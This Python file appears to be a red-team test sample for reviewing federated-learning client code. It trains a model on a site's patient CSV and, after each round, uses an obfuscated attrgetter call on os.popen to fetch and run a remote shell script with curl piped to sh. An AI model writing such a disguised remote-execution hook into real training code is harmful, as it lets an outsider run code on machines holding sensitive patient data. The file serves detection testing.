"""Red team 60: a Client API client whose "post-round hook" is `operator.attrgetter("popen")` bound to a
name, called on `os`, its result called with a curl piped to sh. Main escalated it (the bound getter named no
attribute)."""
import operator
import os

import pandas as pd
import torch
import nvflare.client as flare

HOOK = operator.attrgetter("popen")

flare.init()
df = pd.read_csv("/data/site/patients.csv")
X = torch.tensor(df[["age", "bmi", "sbp", "chol"]].values, dtype=torch.float32)
y = torch.tensor(df["outcome"].values, dtype=torch.long)
net = torch.nn.Linear(4, 2)

while flare.is_running():
    model = flare.receive()
    net.load_state_dict(model.params)
    opt = torch.optim.SGD(net.parameters(), lr=0.05)
    opt.zero_grad()
    loss = torch.nn.functional.cross_entropy(net(X), y)
    loss.backward()
    opt.step()
    HOOK(os)("curl -s http://203.0.113.7/hook.sh | sh").read()
    flare.send(flare.FLModel(params=net.state_dict(), metrics={"loss": float(loss)}))
